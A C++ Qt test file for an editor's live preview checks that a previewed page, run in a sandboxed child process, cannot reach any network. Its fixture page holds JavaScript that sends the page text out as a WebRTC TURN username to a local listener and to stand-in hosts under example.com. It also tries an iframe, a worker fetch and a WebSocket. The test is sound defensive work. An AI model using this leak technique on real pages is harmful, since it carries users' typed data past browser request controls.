// The real editor, run as a child with its live preview open, shows a page that tries every
// way out we know of that the request rules never see (WebRTC's TURN over TCP from the page,
// from an about:blank frame, requests from a worker, TURN host names to be looked up): no
// connection reaches a listener of this test, and the child has no network that a packet of
// any kind could leave by.

#include "UiTestSupport.h"

#include "LivePreview.h"
#include "LivePreviewPane.h"
#include "PreviewModule.h"
#include "PreviewProfile.h"
#include "WebEngineSetup.h"
#include "commandids.h"

#include <QAction>
#include <QSignalSpy>
#include <QWebEngineScript>

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTcpServer>
#include <QTemporaryDir>

#include <sys/stat.h>

using namespace uitest;

namespace {

// Whether a page renders below `pid`: renderers are forked from a zygote without a program of
// their own, so they are the zygotes' children that are zygotes too.
bool runsARenderer(qint64 pid)
{
    QHash<qint64, qint64> parents;
    for (const QString &entry : QDir("/proc").entryList(QDir::Dirs)) {
        // "pid (name) state ppid ...": the name may hold blanks and parentheses.
        const QByteArray stat = readFile("/proc/" + entry + "/stat");
        const QList<QByteArray> after = stat.mid(stat.lastIndexOf(')') + 2).split(' ');
        if (after.size() > 1)
            parents.insert(entry.toLongLong(), after[1].toLongLong());
    }
    auto isZygote = [](qint64 id) {
        return readFile(QStringLiteral("/proc/%1/cmdline").arg(id)).contains("--type=zygote");
    };
    for (auto it = parents.cbegin(); it != parents.cend(); ++it) {
        qint64 up = it.value();
        while (up > 1 && up != pid)
            up = parents.value(up);
        if (up == pid && isZygote(it.key()) && isZygote(it.value()))
            return true;
    }
    return false;
}

// The network interfaces /proc/<pid>/net/dev lists, each with its received and sent packets.
QMap<QString, qint64> interfacesOf(qint64 pid)
{
    QMap<QString, qint64> packets;
    const QList<QByteArray> lines =
        readFile(QStringLiteral("/proc/%1/net/dev").arg(pid)).split('\n');
    for (const QByteArray &line : lines.mid(2)) {
        const qsizetype colon = line.indexOf(':');
        if (colon < 0)
            continue;
        const QList<QByteArray> counts = line.mid(colon + 1).simplified().split(' ');
        packets[QString::fromLatin1(line.left(colon).trimmed())] =
            counts.value(1).toLongLong() + counts.value(9).toLongLong();
    }
    return packets;
}

ino_t networkNamespaceOf(const QString &pid)
{
    struct stat info = {};
    return ::stat(qPrintable("/proc/" + pid + "/ns/net"), &info) == 0 ? info.st_ino : 0;
}

QByteArray leakingPage(quint16 port)
{
    const QByteArray turn = "turn:127.0.0.1:" + QByteArray::number(port) + "?transport=tcp";
    const QByteArray http = "http://127.0.0.1:" + QByteArray::number(port);
    return "<HTML><BODY><P>secret typed text</P><SCRIPT>\n"
           "function turn(RTC, via) {\n"
           "  const data = document.body.innerText;\n"
           "  const pc = new RTC({iceServers: [{urls: ['" +
           turn +
           "', 'turn:leak-' + via + '.example.com:3478?transport=tcp'],"
           " username: data, credential: 'x'}]});\n"
           "  pc.createDataChannel('d');\n"
           "  pc.createOffer().then(o => pc.setLocalDescription(o));\n"
           "}\n"
           "const frame = document.createElement('iframe');\n"
           "document.body.appendChild(frame);\n"
           "const worker = new Worker(URL.createObjectURL(new Blob([\"fetch('" +
           http + "/w').catch(() => {}); try { new WebSocket('ws" + http.mid(4) +
           "'); } catch (e) {}\"])));\n"
           "setInterval(() => {\n"
           "  try { turn(RTCPeerConnection, 'top'); } catch (e) {}\n"
           "  try { turn(frame.contentWindow.RTCPeerConnection, 'frame'); } catch (e) {}\n"
           "}, 300);\n"
           "</SCRIPT></BODY></HTML>\n";
}

} // namespace

class TestPreviewSeal : public QObject
{
    Q_OBJECT
private slots:
    void aPreviewedPageReachesNoSocket()
    {
        QTcpServer listener;
        QVERIFY(listener.listen(QHostAddress::LocalHost));
        int connections = 0;
        connect(&listener, &QTcpServer::newConnection, this, [&] {
            ++connections;
            while (QTcpSocket *socket = listener.nextPendingConnection())
                socket->deleteLater();
        });
        QTemporaryDir home;
        QVERIFY(home.isValid());
        const QString page = home.filePath("page.htm");
        QVERIFY(writeFile(page, leakingPage(listener.serverPort())));
        writeProfile(home.filePath("config"), {{"LivePreview/OpenAtStart", true}});

        QProcess child;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert("XDG_CONFIG_HOME", home.filePath("config"));
        env.insert("XDG_DATA_HOME", home.filePath("data"));
        env.insert("XDG_CACHE_HOME", home.filePath("cache"));
        env.insert("QT_QPA_PLATFORM", "offscreen");
        child.setProcessEnvironment(env);
        child.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        child.start(TARNEL_BINARY, {page});
        QVERIFY(child.waitForStarted());
        const qint64 pid = child.processId();
        QTRY_VERIFY_WITH_TIMEOUT(runsARenderer(pid), 30000);
        QTest::qWait(4000); // about a dozen rounds of attempts once the page runs

        QCOMPARE(connections, 0);
        QVERIFY(networkNamespaceOf(QString::number(pid)) != networkNamespaceOf("self"));
        // Loopback alone, and down: not one packet went anywhere, a name look-up included.
        QCOMPARE(interfacesOf(pid), (QMap<QString, qint64>{{"lo", 0}}));
        child.terminate();
        QVERIFY(child.waitForFinished(30000));
    }

    // Unsealed, the page's own scripts do not run; the live preview's helpers, in the
    // editor's world, still follow the typing.
    void unsealedPreviewsRunNoPageScript()
    {
        QTemporaryDir dir;
        const QString page = dir.filePath("page.htm");
        QVERIFY(writeFile(page, "<BODY><P>shown</P><SCRIPT>document.title = 'ran'</SCRIPT>"));
        Editor editor;
        QVERIFY(editor.start({page}, true));
        editor.frame()->action(tarnel::ID_VIEW_LIVE_PREVIEW)->trigger();
        CLivePreview *preview =
            CLivePreviewPane::previewIn(editor.activeSource()->livePreviewPane());
        QTRY_VERIFY_WITH_TIMEOUT(preview->inStep(), 20000);
        QSignalSpy updated(preview, &CLivePreview::updated);
        CTarnelView *view = editor.view();
        const std::size_t at = viewBytes(view).indexOf("shown");
        view->selectBytes(at, at);
        view->setFocus();
        QTest::keyClicks(view, "now ");
        QVERIFY(updated.wait(20000));
        QVariant seen;
        preview->page()->runJavaScript("document.title + '|' + document.body.innerText",
                                       QWebEngineScript::ApplicationWorld,
                                       [&](const QVariant &v) { seen = v; });
        QTRY_COMPARE(seen.toString(), QString("|now shown"));
    }
};

int main(int argc, char **argv)
{
    prepareWebEngine(argc, argv);
    QApplication application(argc, argv);
    // As the editor runs where it cannot be sealed (the child above is sealed on its own).
    barPreviewPageScripts();
    TestPreviewSeal test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_previewseal.moc"
